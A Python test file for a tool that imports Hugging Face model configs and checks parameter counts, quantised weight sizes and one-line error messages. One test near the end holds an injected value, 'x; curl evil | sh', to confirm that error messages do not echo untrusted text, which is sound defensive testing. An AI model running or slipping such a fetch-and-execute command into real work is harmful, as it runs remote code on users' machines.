"""Importing a Hugging Face config.json gives the same model as the shipped YAML."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from planner.inputs.errors import InputError
from planner.inputs.hf_import import load_hf_config
from planner.inputs.query import load_workload

DATA = Path(__file__).parent / "data" / "hf"
MODELS = sorted(p.name for p in DATA.iterdir() if (p / "config.json").is_file())


def test_the_reference_configs_are_present() -> None:
    assert set(MODELS) >= {"llama-3.1-70b", "deepseek-v3", "mixtral-8x7b", "qwen3-235b-a22b", "gpt-oss-120b"}


@pytest.mark.parametrize("name", MODELS)
def test_import_matches_shipped_yaml(name: str) -> None:
    imported = load_hf_config(str(DATA / name / "config.json"))
    shipped = load_workload(name)
    assert imported.name == name  # no _name_or_path: the folder names the model
    assert imported.model.total_params == shipped.model.total_params
    assert imported.model.active_params == shipped.model.active_params
    for context in (None, 100, 1_000, 100_000):
        assert imported.kv_bytes_per_token(context) == shipped.kv_bytes_per_token(context)
    assert imported.weight_dtype == shipped.weight_dtype
    assert imported.kv_dtype == "bf16"


@pytest.mark.parametrize("name", MODELS)
def test_load_workload_dispatches_json_and_defaults_traffic(name: str) -> None:
    w = load_workload(str(DATA / name / "config.json"))
    assert (w.isl, w.osl, w.kv_len) == (2048, 512, 2560)
    assert (w.ttft_s, w.tpot_s) == pytest.approx((2.0, 0.05))
    assert w.published_total_params is None
    assert len(w.sha256) == 64


def test_a_folder_holding_config_json_is_accepted() -> None:
    assert load_hf_config(str(DATA / "mixtral-8x7b")).model == load_workload("mixtral-8x7b").model


def test_weight_precision_follows_the_checkpoint() -> None:
    assert load_hf_config(str(DATA / "deepseek-v3" / "config.json")).weight_dtype == "fp8"
    assert load_hf_config(str(DATA / "gpt-oss-120b" / "config.json")).weight_dtype == "fp4"
    assert load_hf_config(str(DATA / "gpt-oss-120b" / "config.json")).weights == load_workload("gpt-oss-120b").weights
    assert load_hf_config(str(DATA / "llama-3.1-70b" / "config.json")).weight_dtype == "bf16"


def _write(tmp_path: Path, cfg: dict | str, folder: str = "my-model") -> Path:
    path = tmp_path / folder / "config.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(cfg if isinstance(cfg, str) else json.dumps(cfg))
    return path


def _base(name: str) -> dict:
    return json.loads((DATA / name / "config.json").read_text())


def _one_line_error(path: Path) -> str:
    with pytest.raises(InputError) as info:
        load_hf_config(str(path))
    message = str(info.value)
    assert "\n" not in message
    assert message.startswith(str(path))
    return message


def test_unsupported_architecture_is_named(tmp_path: Path) -> None:
    cfg = _base("llama-3.1-70b") | {"architectures": ["FooForCausalLM"]}
    message = _one_line_error(_write(tmp_path, cfg))
    assert "config.json" in message
    assert "'FooForCausalLM' is not supported" in message
    assert "LlamaForCausalLM" in message and "GptOssForCausalLM" in message


def test_malformed_json_names_the_file(tmp_path: Path) -> None:
    message = _one_line_error(_write(tmp_path, '{"architectures": ["LlamaForCausalLM"], "hidden_size": }'))
    assert "config.json" in message and "malformed JSON" in message and "line 1" in message


def test_missing_key_is_named(tmp_path: Path) -> None:
    cfg = _base("qwen3-235b-a22b")
    del cfg["moe_intermediate_size"]
    message = _one_line_error(_write(tmp_path, cfg))
    assert "'moe_intermediate_size'" in message and "Qwen3MoeForCausalLM" in message


def test_wrongly_typed_key_is_named(tmp_path: Path) -> None:
    cfg = _base("mixtral-8x7b") | {"hidden_size": "4096"}
    assert "'hidden_size'" in _one_line_error(_write(tmp_path, cfg))


def test_missing_file_is_reported(tmp_path: Path) -> None:
    assert "no such file" in _one_line_error(tmp_path / "nowhere" / "config.json")


def test_name_or_path_wins_over_the_folder(tmp_path: Path) -> None:
    cfg = _base("llama-3.1-70b") | {"_name_or_path": "meta-llama/Llama-3.1-70B-Instruct"}
    assert load_hf_config(str(_write(tmp_path, cfg))).name == "meta-llama/Llama-3.1-70B-Instruct"


def test_dense_llama_family_imports(tmp_path: Path) -> None:
    """Llama 3.1 8B, and Qwen2/Qwen3 dense variants of it: Qwen2 always adds q/k/v biases."""
    llama8 = _base("llama-3.1-70b") | {
        "hidden_size": 4096, "intermediate_size": 14336, "num_attention_heads": 32, "num_hidden_layers": 32,
    }
    imported = load_hf_config(str(_write(tmp_path, llama8, "llama-3.1-8b")))
    assert imported.model.total_params == load_workload("llama-3.1-8b").model.total_params

    qwen2 = llama8 | {"architectures": ["Qwen2ForCausalLM"]}
    qwen3 = llama8 | {"architectures": ["Qwen3ForCausalLM"], "head_dim": 128}
    biases = 32 * (32 * 128 + 2 * 8 * 128)
    assert load_hf_config(str(_write(tmp_path, qwen2, "q2"))).model.total_params == imported.model.total_params + biases
    assert load_hf_config(str(_write(tmp_path, qwen3, "q3"))).model.total_params == imported.model.total_params


def test_qwen_sliding_window_counts_layers_from_max_window_layers(tmp_path: Path) -> None:
    cfg = _base("qwen3-235b-a22b") | {"use_sliding_window": True, "sliding_window": 4096, "max_window_layers": 90}
    m = load_hf_config(str(_write(tmp_path, cfg))).model
    assert (m.window_tokens, m.n_window_layers) == (4096, 4)


def test_deepseek_dense_layer_count_follows_first_k_dense_replace(tmp_path: Path) -> None:
    kimi_like = _base("deepseek-v3") | {
        "num_attention_heads": 64, "n_routed_experts": 384, "first_k_dense_replace": 1, "vocab_size": 163840,
    }
    imported = load_hf_config(str(_write(tmp_path, kimi_like, "kimi-k2")))
    shipped = load_workload("kimi-k2")
    assert imported.model.total_params == shipped.model.total_params
    assert imported.model.active_params == shipped.model.active_params


def _quantised(tmp_path: Path, quant: dict, base: str = "llama-3.1-70b"):
    return load_hf_config(str(_write(tmp_path, _base(base) | {"quantization_config": quant})))


def _bytes_by_hand(w, per_component: dict[str, float]) -> float:
    return sum(n * per_component[c] for c, n in w.model.params_by_component().items())


def test_awq_and_gptq_are_int4_with_a_scale_and_zero_per_group(tmp_path: Path) -> None:
    """4 bits a weight plus 16-bit scale and zero per group of 128: 4.25 bits; embeddings stay BF16."""
    awq = _quantised(tmp_path, {"quant_method": "awq", "bits": 4, "group_size": 128, "zero_point": True})
    int4 = (4 + 32 / 128) / 8
    hand = _bytes_by_hand(awq, {"attention": int4, "dense_ffn": int4, "routed_experts": int4, "shared_experts": int4, "embeddings": 2.0})
    assert awq.weight_bytes == pytest.approx(hand, rel=1e-9)
    assert 39e9 < awq.weight_bytes < 42e9  # 68.5B linear weights at 4.25 bits + two BF16 vocabulary matrices, not 141 GB
    gptq = _quantised(tmp_path, {"quant_method": "gptq", "bits": 4, "group_size": 32})
    assert gptq.weights.bytes("dense_ffn") == pytest.approx((4 + 32 / 32) / 8)


def test_fp8_block_scales_and_mxfp4_experts_are_counted(tmp_path: Path) -> None:
    ds = load_hf_config(str(DATA / "deepseek-v3" / "config.json"))  # fp8, weight_block_size [128, 128]
    assert ds.weights.routed_experts == "fp8_block128"
    assert ds.weights.bytes("routed_experts") == pytest.approx(1 + 4 / (128 * 128))
    assert ds.weights.embeddings == "bf16"
    oss = load_hf_config(str(DATA / "gpt-oss-120b" / "config.json"))  # mxfp4
    hand = _bytes_by_hand(oss, {"attention": 2.0, "dense_ffn": 2.0, "routed_experts": (4 + 8 / 32) / 8, "shared_experts": 2.0, "embeddings": 2.0})
    assert oss.weight_bytes == pytest.approx(hand, rel=1e-9)
    assert 64e9 < oss.weight_bytes < 66.5e9  # ~65 GB as shipped (issue 9), not 58 GB at a bare 4 bits


@pytest.mark.parametrize("quant,field", [
    ({"quant_method": "awq", "bits": 3, "group_size": 128}, "quantization_config.bits"),
    ({"quant_method": "gptq", "bits": 4, "group_size": 100}, "quantization_config.group_size"),
    ({"quant_method": "fp8", "weight_block_size": [64, 64]}, "quantization_config.weight_block_size"),
    # benchmarks/fuzz.py --seed 2 (inputs 1630, 1727): a block size that is no list crashed with TypeError
    ({"quant_method": "fp8", "weight_block_size": False}, "quantization_config.weight_block_size"),
    ({"quant_method": "fp8", "weight_block_size": 0.5}, "quantization_config.weight_block_size"),
    ({"quant_method": "fp8", "weight_block_size": "128"}, "quantization_config.weight_block_size"),
    ({"quant_method": "fp8", "weight_block_size": [True, 128]}, "quantization_config.weight_block_size"),
    ({"quant_method": "hqq"}, "quantization_config.quant_method"),
    ({"quant_method": "bitsandbytes", "load_in_4bit": True}, "quantization_config.quant_method"),
    ({"quant_method": "compressed-tensors", "config_groups": {"a": {"weights": {"num_bits": 2, "type": "int"}}}}, "quantization_config.config_groups"),
])
def test_a_format_that_cannot_be_modelled_is_refused_in_one_line(tmp_path: Path, quant: dict, field: str) -> None:
    message = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": quant}))
    assert field in message


def test_refused_quantisation_exits_2_from_the_cli(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from planner.cli.main import app

    path = _write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "hqq"}})
    out = CliRunner().invoke(app, ["plan", "--workload", str(path), "--topology", "hgx-h100"])
    assert out.exit_code == 2
    assert "quantization_config.quant_method" in out.output and "Traceback" not in out.output


def test_compressed_tensors_simple_schemes_are_modelled(tmp_path: Path) -> None:
    w4 = _quantised(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {
        "group_0": {"weights": {"num_bits": 4, "type": "int", "strategy": "group", "group_size": 128}}}})
    assert w4.weights.attention == "int4_g128"
    f8 = _quantised(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {
        "group_0": {"weights": {"num_bits": 8, "type": "float", "strategy": "channel"}}}})
    assert f8.weight_dtype == "fp8" and f8.weights.dense_ffn == "fp8"


def test_whole_numbers_written_as_floats_read_as_the_integer(tmp_path: Path) -> None:
    """"bits": 4.0 is the same checkpoint as "bits": 4; 4.5 and true are no bit width."""
    whole = _quantised(tmp_path, {"quant_method": "awq", "bits": 4.0, "group_size": 128.0})
    exact = _quantised(tmp_path, {"quant_method": "awq", "bits": 4, "group_size": 128})
    assert whole.weights == exact.weights and whole.weights.attention == "int4_g128"
    for bad in ({"bits": 4.5, "group_size": 128}, {"bits": True, "group_size": 128}, {"bits": 4, "group_size": 128.5}):
        message = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "gptq", **bad}}))
        assert "quantization_config." in message and "not modelled" in message


def test_w8a8_int8_compressed_tensors_is_one_byte_a_weight(tmp_path: Path) -> None:
    """SmoothQuant-style W8A8-INT8: one byte a weight with per-channel scales; embeddings BF16."""
    w = _quantised(tmp_path, {"quant_method": "compressed-tensors", "config_groups": {
        "group_0": {"weights": {"num_bits": 8, "type": "int", "strategy": "channel"},
                    "input_activations": {"num_bits": 8, "type": "int", "strategy": "token", "dynamic": True}}}})
    w8a16 = _write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "compressed-tensors", "config_groups": {
        "group_0": {"weights": {"num_bits": 8, "type": "int", "strategy": "channel"}, "input_activations": None}}}})
    assert "W8A16" in _one_line_error(w8a16)  # weight-only INT8 is refused, not costed at INT8 tensor-core rates
    hand = _bytes_by_hand(w, {"attention": 1.0, "dense_ffn": 1.0, "routed_experts": 1.0, "shared_experts": 1.0, "embeddings": 2.0})
    assert w.weight_bytes == pytest.approx(hand, rel=1e-9)


def test_a_refused_scheme_is_named_but_free_text_is_not_repeated(tmp_path: Path) -> None:
    named = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "modelopt", "quant_algo": "W4A8_AWQ"}}))
    assert "'W4A8_AWQ'" in named
    hostile = _one_line_error(_write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "modelopt", "quant_algo": "x; curl evil | sh"}}))
    assert "curl" not in hostile and "quant_algo a string" in hostile


def test_a_quantised_import_plans_and_exports_as_its_formats_not_bf16(tmp_path: Path) -> None:
    """The plan's header, its document and the export name the int4 weights an AWQ
    checkpoint ships; the shorthand alone (bf16 for integer formats) would mislead."""
    from typer.testing import CliRunner

    from planner.cli.main import app

    path = _write(tmp_path, _base("llama-3.1-70b") | {"quantization_config": {"quant_method": "awq", "bits": 4, "group_size": 128}})
    out_json = tmp_path / "plan.json"
    res = CliRunner().invoke(app, ["plan", "--workload", str(path), "--topology", "hgx-h100", "--out", str(out_json)])
    assert res.exit_code == 0, res.output
    assert "int4_g128 weights, embeddings bf16" in res.output.splitlines()[0]
    doc = json.loads(out_json.read_text())
    assert doc["inputs"]["precision"]["weight_formats"]["dense_ffn"] == "int4_g128"
    assert doc["inputs"]["precision"]["weight_formats"]["embeddings"] == "bf16"
    exported = CliRunner().invoke(app, ["export", str(out_json), "--engine", "vllm"])
    assert exported.exit_code == 0, exported.output
    assert "int4_g128 weights" in exported.output
